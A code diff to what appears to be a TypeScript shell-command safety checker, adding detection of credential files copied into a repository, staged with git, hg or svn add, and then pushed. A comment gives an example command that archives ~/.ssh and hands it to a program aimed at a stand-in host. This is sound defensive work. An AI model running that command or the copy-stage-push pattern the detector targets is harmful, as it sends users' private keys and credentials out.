@@ -22,6 +22,7 @@ import { commandName, literalText } from './commandName';
 import { credentialKind, homeHolderAtWorst, homeStateAtWorst, isNetworkDevicePath, namesCloudMetadata, systemStateAtWorst, wordPathText } from './paths';
 import { containerRun, landingPaths, placeInFolder, type PathPlace } from '../programs/pathResolver';
 import { workingFolderOf } from '../programs/writeTargets';
+import { pushOf, type Push } from '../programs/pushes';
 import { readTextCommands } from './textCommands';
 import { fileUrlWords, isUnplaced, namesAnotherMachine, publishesAtWorst, secretNamedVerb, sendsWordsAtWorst, unplacedWords } from './unplacedSenders';
 import { unreadCodePrints } from './unreadPrinters';
@@ -933,6 +934,7 @@ const MAX_HANDED_ON_WORDS = 512;
  */
 export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding | null {
   const tainted = new Map<string, string>();
+  let staged: [path: string, source: string] | null = null;
   const unitsWithSink = new Set<number>();
   for (const command of line) if (sinkName(command) !== null) unitsWithSink.add(command.unit);
   // A program the table cannot place sends, at its worst, the files it is handed (unplacedSenders.ts).
@@ -942,12 +944,16 @@ export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding
   // read (a known limit).
   const wordCount = line.reduce((sum, command) => sum + command.record.peeled.argv.length, 0);
   const mayHandOn = line.length > MAX_HANDED_ON_COMMANDS || wordCount > MAX_HANDED_ON_WORDS ? line.map(() => false) : line.map((command) => sendsWordsAtWorst(command.record));
-  if (unitsWithSink.size === 0 && !mayHandOn.includes(true)) return null;
+  if (unitsWithSink.size === 0 && !mayHandOn.includes(true) && !line.some((command) => pushOfCommand(command) !== null)) return null;
   for (let k = 0; k < line.length; k++) {
     const command = line[k]!;
     const argv = command.record.peeled.argv;
     const published = tainted.size > 0 ? publishedWorkspaceFile(command, tainted) : null;
     if (published !== null) return hardlineFinding('credential-exfiltration', published);
+    // A credential file staged in the repository earlier on the line goes with a later push (its
+    // commit, on the same line or not, sends what is staged).
+    if (staged !== null && pushOfCommand(command) !== null) return hardlineFinding('credential-exfiltration', `${staged[1]}, copied into the workspace (${staged[0]}) and added to the repository earlier on the line, goes to ${commandName(argv[0])?.name ?? 'a program'} push`);
+    if (tainted.size > 0) staged ??= stagedCredential(command, tainted);
     if (tainted.size > 0 && mayHandOn[k] === true) {
       // The file holds the credential: handed to such a program, it is handed on as the credential
       // itself would be (`tar czf /tmp/k.tgz ~/.ssh && frob /tmp/k.tgz host.example`).
@@ -1031,6 +1037,35 @@ function publishedWorkspaceFile(command: PipelineCommand, tainted: ReadonlyMap<s
     for (const [path, source] of inside) {
       if (folder === '.' || path === folder || path.startsWith(`${folder}/`)) return `${source}, copied into the workspace (${path}) earlier on the line, goes to ${form.program || name}, which uploads ${folder === '.' ? 'the folder it runs in' : folder}`;
     }
+  }
+  return null;
+}
+
+/** The version-control push a command makes to a server (programs/pushes.ts), or null. */
+function pushOfCommand(command: PipelineCommand): Push | null {
+  const argv = command.record.peeled.argv;
+  const name = commandName(argv[0])?.name;
+  return name === undefined ? null : pushOf(argv, name);
+}
+
+/**
+ * A credential file in the workspace that `git add` (or `hg add`, `svn add`) stages: named, inside
+ * a folder it names, or with everything (`-A`, `--all`, `.`). The path and what it holds, or null.
+ */
+function stagedCredential(command: PipelineCommand, tainted: ReadonlyMap<string, string>): [string, string] | null {
+  const argv = command.record.peeled.argv;
+  const name = commandName(argv[0])?.name;
+  if (name !== 'git' && name !== 'hg' && name !== 'svn') return null;
+  const words = argv.slice(1).map(literalText);
+  const verb = words.findIndex((text) => text === 'add' || text === 'stage');
+  if (verb < 0) return null;
+  const named = words.slice(verb + 1).filter((text): text is string => text !== null);
+  const everything = named.some((text) => text === '-A' || text === '--all' || text === ':/');
+  const folders = named.filter((text) => !text.startsWith('-')).flatMap((text) => workspaceRelative(text) ?? []);
+  for (const [path, source] of tainted) {
+    const relative = workspaceRelative(path);
+    if (relative === null) continue;
+    if (everything || folders.some((folder) => folder === '.' || folder === relative || relative.startsWith(`${folder}/`))) return [relative, source];
   }
   return null;
 }
